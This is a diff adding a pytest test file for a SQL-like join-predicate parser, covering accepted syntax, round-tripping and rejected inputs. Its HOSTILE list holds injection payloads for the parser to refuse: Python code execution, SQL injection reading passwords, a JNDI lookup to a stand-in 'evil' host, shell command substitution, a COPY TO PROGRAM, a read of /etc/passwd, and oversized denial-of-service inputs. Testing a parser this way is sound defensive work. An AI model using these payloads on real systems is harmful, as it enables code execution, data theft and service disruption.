@@ -1,0 +1,245 @@
+"""The text form of predicates: what is understood, that it comes back, and what is refused."""
+
+from __future__ import annotations
+
+from datetime import timedelta
+from decimal import Decimal
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from streamjoin_ds.errors import PredicateError, PredicateSyntaxError, StreamJoinError
+from streamjoin_ds.spec import Band, Column, NotEqual, band, equal, not_equal
+from streamjoin_ds.spec.parse import parse_predicates
+from streamjoin_ds.spec.predicate import Bound, Predicate
+
+X, Y = Column("e", "x"), Column("w", "x")
+SECOND = timedelta(seconds=1)
+
+
+@pytest.mark.parametrize(
+    ("text", "predicate"),
+    [
+        ("abs(e.x - w.x) <= 10", Band(X, Y, -10, 10)),
+        ("ABS((e.x) - (w.x)) <= (10)", Band(X, Y, -10, 10)),
+        ("10 >= abs(e.x - w.x)", Band(X, Y, -10, 10)),
+        ("abs(w.x - e.x) <= 10", Band(Y, X, -10, 10)),
+        ("abs(e.x - w.x) <= 1e-1", Band(X, Y, Decimal("-0.1"), Decimal("0.1"))),
+        ("abs(e.x - w.x) <= .5", Band(X, Y, Decimal("-0.5"), Decimal("0.5"))),
+        ("abs(e.x - w.x) <= +5.0", Band(X, Y, -5, 5)),
+        ("abs(e.x - w.x) <= -0", Band(X, Y, 0, 0)),
+        ("abs(e.x - w.x) <= - - 3", Band(X, Y, -3, 3)),
+        ("abs(e.x - w.x) <= 9223372036854775807", Band(X, Y, -(2**63) + 1, 2**63 - 1)),
+        ("abs(e.x - w.x) <= 1e300", Band(X, Y, Decimal("-1e300"), Decimal("1e300"))),
+        ("e.x - w.x BETWEEN -5 AND 10", Band(X, Y, -5, 10)),
+        ("e.x BETWEEN w.x - 3 AND w.x + 4.5", Band(X, Y, -3, Decimal("4.5"))),
+        ("w.x BETWEEN e.x AND 2 + e.x", Band(Y, X, 0, 2)),
+        ("e.x = w.x", Band(X, Y, 0, 0)),
+        ("e.x == w.x", Band(X, Y, 0, 0)),
+        ("e.x =\n\tw.x ;", Band(X, Y, 0, 0)),
+        ("e.x <> w.x", NotEqual(X, Y)),
+        ("e.x != w.x", NotEqual(X, Y)),
+        ("NOT (e.x = w.x)", NotEqual(X, Y)),
+        ("((e.x = w.x))", Band(X, Y, 0, 0)),
+        ("abs(e.x - w.x) <= INTERVAL 5 SECONDS", Band(X, Y, -5 * SECOND, 5 * SECOND)),
+        ("abs(e.x - w.x) <= INTERVAL '5' SECOND", Band(X, Y, -5 * SECOND, 5 * SECOND)),
+        ("abs(e.x - w.x) <= INTERVAL '5 seconds'", Band(X, Y, -5 * SECOND, 5 * SECOND)),
+        ("abs(e.x - w.x) <= INTERVAL '1h 30m'", Band(X, Y, -5400 * SECOND, 5400 * SECOND)),
+        ("abs(e.x - w.x) <= INTERVAL 1 HOUR 30 MINUTES", Band(X, Y, -5400 * SECOND, 5400 * SECOND)),
+        ("abs(e.x - w.x) <= interval 1.5 second", Band(X, Y, -1.5 * SECOND, 1.5 * SECOND)),
+        ("e.x - w.x BETWEEN -INTERVAL 5 SECONDS AND INTERVAL '-1' SECOND", Band(X, Y, -5 * SECOND, -SECOND)),
+        ("e.x - w.x BETWEEN INTERVAL -5 SECONDS AND 0", Band(X, Y, -5 * SECOND, timedelta(0))),
+        ("e.x BETWEEN w.x - INTERVAL 1 HOUR 30 MINUTES AND w.x", Band(X, Y, -5400 * SECOND, timedelta(0))),
+        ("abs(e.x - w.x) <= INTERVAL 1 WEEK", Band(X, Y, -7 * 86400 * SECOND, 7 * 86400 * SECOND)),
+        ('e.`PM2.5` = w."PM2.5"', Band(Column("e", "PM2.5"), Column("w", "PM2.5"), 0, 0)),
+        ("e.order = w.timestamp", Band(Column("e", "order"), Column("w", "timestamp"), 0, 0)),
+        ("e.`a b` <> w.`c``d`", NotEqual(Column("e", "a b"), Column("w", "c`d"))),
+        ("e.X = w.x", Band(Column("e", "X"), Y, 0, 0)),
+    ],
+)
+def test_understood(text: str, predicate: Predicate) -> None:
+    assert parse_predicates(text) == (predicate,)
+
+
+def test_conjunctions_keep_their_order() -> None:
+    texts = [f"abs(e.c{n} - w.c{n}) <= {n + 1}" for n in range(6)]
+    expected = tuple(band(f"e.c{n}", f"w.c{n}", n + 1) for n in range(6))
+    assert parse_predicates(" AND ".join(texts)) == expected
+    assert parse_predicates(f"({texts[0]} AND ({texts[1]} AND {texts[2]})) AND {' AND '.join(texts[3:])}") == expected
+    assert parse_predicates(texts) == expected
+
+
+def test_a_long_conjunction() -> None:
+    text = " AND ".join(["e.x = w.x"] * 700)
+    assert len(parse_predicates(text)) == 700
+
+
+columns = st.builds(
+    Column,
+    st.just("e"),
+    st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc", "Cf"]), min_size=1, max_size=8),
+)
+numbers = (
+    st.integers(-(2**70), 2**70)
+    | st.floats(allow_nan=False, allow_infinity=False)
+    | st.decimals(allow_nan=False, allow_infinity=False, places=6)
+    | st.timedeltas(timedelta(days=-9999), timedelta(days=9999))
+)
+
+
+@given(columns, columns.map(lambda c: Column("w", c.name)), numbers, numbers)
+def test_what_is_printed_is_read_again(left: Column, right: Column, one: Bound, other: Bound) -> None:
+    if isinstance(one, timedelta) != isinstance(other, timedelta):
+        other = one
+    lo, hi = sorted((one, other))  # type: ignore[type-var]
+    for predicate in (Band(left, right, lo, hi), NotEqual(left, right)):
+        (read,) = parse_predicates(str(predicate))
+        assert (read.left, read.right) == (left, right)
+        if isinstance(read, Band):
+            for was, found in ((lo, read.lo), (hi, read.hi)):
+                # A float is printed as its shortest exact decimal; what is read is that decimal.
+                assert type(was)(found) == was if isinstance(was, float) else found == was
+
+
+@pytest.mark.parametrize(
+    ("text", "why"),
+    [
+        ("", "not one SQL condition"),
+        ("   ", "not one SQL condition"),
+        ("-- e.x = w.x", "not one SQL condition"),
+        ("e.x = w.x -- AND e.y = w.y", "comment"),
+        ("e.x = w.x /* AND e.y = w.y */", "comment"),
+        ("e.x = w.x; e.y = w.y", "not one SQL condition"),
+        ("e.x = w.x AND", "not an SQL condition"),
+        ("e.x = w.x OR e.y = w.y", "none of the forms"),
+        ("abs(e.x - w.x) < 3", "write <= instead of <"),
+        ("e.x > w.x", "write <= instead of <"),
+        ("abs(e.x - w.x) >= 3", "abs(l.a - r.b)"),
+        ("e.x - w.x <= 3", "abs(l.a - r.b)"),
+        ("abs(e.x + w.x) <= 3", "abs(l.a - r.b)"),
+        ("abs(e.x - w.x) <= w.y", "neither a number nor an INTERVAL"),
+        ("abs(e.x - w.x) <= '3'", "neither a number nor an INTERVAL"),
+        ("abs(e.x - w.x) <= 1 + 2", "neither a number nor an INTERVAL"),
+        ("abs(e.x - w.x) <= NULL", "neither a number nor an INTERVAL"),
+        ("abs(e.x - w.x) <= TRUE", "neither a number nor an INTERVAL"),
+        ("abs(e.x - w.x) <= 0x10", "condition"),
+        ("abs(e.x - w.x) <= 1_000", "condition"),
+        ("abs(e.x - w.x) <= INTERVAL 1 MONTH", "INTERVAL"),
+        ("abs(e.x - w.x) <= INTERVAL '0:05' HOUR TO MINUTE", "INTERVAL"),
+        ("abs(e.x - w.x) <= INTERVAL '5' HOUR TO MINUTE", "INTERVAL"),
+        ("abs(e.x - w.x) <= INTERVAL '--5' SECOND", "INTERVAL"),
+        ("e.x = 3", "not stream.column"),
+        ("e.x = x", "not stream.column"),
+        ("e.x = w.x.y", "not stream.column"),
+        ("e.x = w.x + 1", "not stream.column"),
+        ("u.PM2.5 = w.x", "not stream.column"),
+        ("e.* = w.*", "not stream.column"),
+        ("(e.x, e.y) = (w.x, w.y)", "not stream.column"),
+        ("e.x <=> w.x", "none of the forms"),
+        ("e.x IS NOT DISTINCT FROM w.x", "none of the forms"),
+        ("e.x IN (w.x)", "none of the forms"),
+        ("e.x LIKE w.x", "none of the forms"),
+        ("NOT e.x <> w.x", "none of the forms"),
+        ("e.x NOT BETWEEN w.x AND w.x + 1", "none of the forms"),
+        ("e.x BETWEEN SYMMETRIC w.x + 1 AND w.x", "SYMMETRIC"),
+        ("e.x BETWEEN w.x - 1 AND w.y + 1", "one column"),
+        ("e.x BETWEEN 1 - w.x AND w.x", "not stream.column"),
+        ("e.x = (SELECT max(x) FROM w)", "not stream.column"),
+        ("true", "none of the forms"),
+        ("e.x", "none of the forms"),
+    ],
+)
+def test_refused_with_what_would_be_understood(text: str, why: str) -> None:
+    with pytest.raises(PredicateSyntaxError) as caught:
+        parse_predicates(text)
+    assert why in caught.value.message
+    assert "abs(l.a - r.b) <= c" in caught.value.hint
+    assert "`PM2.5`" in caught.value.hint
+
+
+@pytest.mark.parametrize(
+    "text", ["e.x BETWEEN w.x + 3 AND w.x - 3", "e.x - w.x BETWEEN 5 AND -5", "abs(e.x - w.x) <= -1"]
+)
+def test_an_empty_band_is_refused_and_not_turned_round(text: str) -> None:
+    with pytest.raises(PredicateError, match="empty"):
+        parse_predicates(text)
+
+
+def test_text_and_functions_agree() -> None:
+    texts = ["abs(e.x - w.x) <= 0.1", "e.x = w.x", "e.x <> w.x", "e.x - w.x BETWEEN -1 AND 2"]
+    made = (
+        band("e.x", "w.x", Decimal("0.1")),
+        equal("e.x", "w.x"),
+        not_equal("e.x", "w.x"),
+        band("e.x", "w.x", lo=-1, hi=2),
+    )
+    assert parse_predicates(texts) == made
+
+
+HOSTILE = [
+    "__import__('os').system('touch /tmp/owned')",
+    "exec('import os')",
+    "eval('1+1')",
+    "e.x = w.x; DROP TABLE matches",
+    "e.x = w.x; --",
+    "1=1; SELECT * FROM secrets",
+    "' OR '1'='1",
+    '" OR ""="',
+    "e.x = w.x UNION SELECT password FROM users",
+    "e.x = w.x) OR (1=1",
+    "reflect('java.lang.Runtime', 'exec', 'id') = w.x",
+    "java_method('java.lang.System', 'exit', 0) = w.x",
+    "${jndi:ldap://evil/a} = w.x",
+    "$(id) = w.x",
+    "`id` = w.x",
+    "{{7*7}} = w.x",
+    "e.x = w.x #{system('id')}",
+    "%s%s%s%n",
+    "{0.__class__.__mro__}",
+    "f'{open(\"/etc/passwd\").read()}'",
+    "e.__class__ = w.__class__()",
+    "lambda: 1",
+    "e.x = @@version",
+    "e.x = :parameter",
+    "e.x = ?",
+    "e.x = CAST(w.x AS int)",
+    "e.x::int = w.x",
+    "sleep(10) = w.x",
+    "e.x = pg_sleep(10)",
+    "COPY e TO PROGRAM 'id'",
+    "CREATE FUNCTION f AS 'x'",
+    "SET spark.sql.x = 1",
+    "ADD JAR '/tmp/x.jar'",
+    "SHOW TABLES",
+    "CALL system.shell('id')",
+    "GRANT ALL ON e TO public",
+    "e.x = w.x WITH (option = 1)",
+    "e.x = '\\x00'",
+    "e.x = w.x\x00",
+    "\x00",
+    "‮e.x = w.x",
+    "е.x ＝ w.x",
+    "🦆 = 🦆",
+    "\ud800",
+    "(" * 3000,
+    "(" * 3000 + "e.x = w.x" + ")" * 3000,
+    "NOT " * 2000 + "e.x = w.x",
+    "abs(" * 1000 + "e.x - w.x" + ")" * 1000 + " <= 1",
+    "abs(e.x - w.x) <= " + "-" * 3001 + "1",
+    "abs(e.x - w.x) <= " + "9" * 9000,
+    "abs(e.x - w.x) <= 1e999999999",
+    "abs(e.x - w.x) <= 1e-999999999",
+    "abs(e.x - w.x) <= 1e99999999999999999999",
+    "e.x = w.x AND " * 5000,
+    "a" * 1_000_000,
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+def test_hostile_text_is_refused_by_name(text: str) -> None:
+    assert len(HOSTILE) >= 50
+    with pytest.raises(StreamJoinError) as caught:
+        parse_predicates(text)
+    assert len(str(caught.value)) < 1000
+    assert str(caught.value).isprintable()
